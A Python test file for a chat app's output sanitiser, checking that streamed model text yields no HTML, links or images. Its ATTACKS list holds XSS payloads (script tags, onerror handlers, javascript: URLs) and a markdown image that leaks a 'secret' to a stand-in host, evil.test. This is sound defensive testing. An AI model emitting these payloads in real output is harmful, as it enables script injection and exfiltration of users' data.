"""Whatever a model writes: through the citations' filter and the markup shield comes no HTML, no link, no image."""

from __future__ import annotations

import asyncio

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chat_app.marker_filter import MarkerFilter
from chat_app.shields.markup import MarkupShield

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "text <iframe src=//evil.test>",
    "[click](javascript:alert(1))",
    "![pixel](https://evil.test/?q=secret)",
    "[click][1]\n\n[1]: https://evil.test",
    "[word]\n\n[word]: //evil.test/x",
    "[word]\n\n> [word]: javascript:alert(1)",
    "- [word]: //evil.test\n\n[word]",
    "<https://evil.test>",
    "<javascript:alert(1)>",
    "[a\\]b]: //evil.test\n\n[a\\]b]",
    "<!-- hidden -->",
    "<?php x ?>",
    "&lt;script>",
]
PIECES = st.sampled_from(
    [*ATTACKS, "<", "a", ">", "[", "x", "]", ":", " ", "\n", "\n\n", "(", ")", "`", "//e.test", "!", "- ", "> ", "1. "]
)
PAGE = MarkdownIt("commonmark", {"html": True})


async def shown(text: str, size: int) -> str:
    verify, shield = MarkerFilter(3), MarkupShield()
    said = [await shield.feed(verify.feed(text[at : at + size])) for at in range(0, len(text), size)]
    return "".join(said) + await shield.feed(verify.finish()) + await shield.finish()


def kinds(markdown: str) -> set[str]:
    """What a page would make of it, besides words."""
    tokens = [token for block in PAGE.parse(markdown) for token in (block, *(block.children or ()))]
    return {token.type for token in tokens} & {"html_block", "html_inline", "link_open", "image"}


@pytest.mark.parametrize("size", [1, 3, 1_000])
@pytest.mark.parametrize("attack", ATTACKS)
async def test_an_attack_is_shown_as_text(attack: str, size: int) -> None:
    assert kinds(await shown(f"Before.\n\n{attack}\n\nAfter [1].", size)) == set()


@given(st.lists(PIECES, max_size=12).map("".join), st.integers(1, 9))
def test_no_text_becomes_html_a_link_or_an_image(text: str, size: int) -> None:
    assert kinds(asyncio.run(shown(text, size))) == set()


async def test_code_shows_tags_as_they_are() -> None:
    text = "Use `<div>` here:\n\n```html\n<p>\n[a]: b\n```\n"
    assert await shown(text, 2) == text
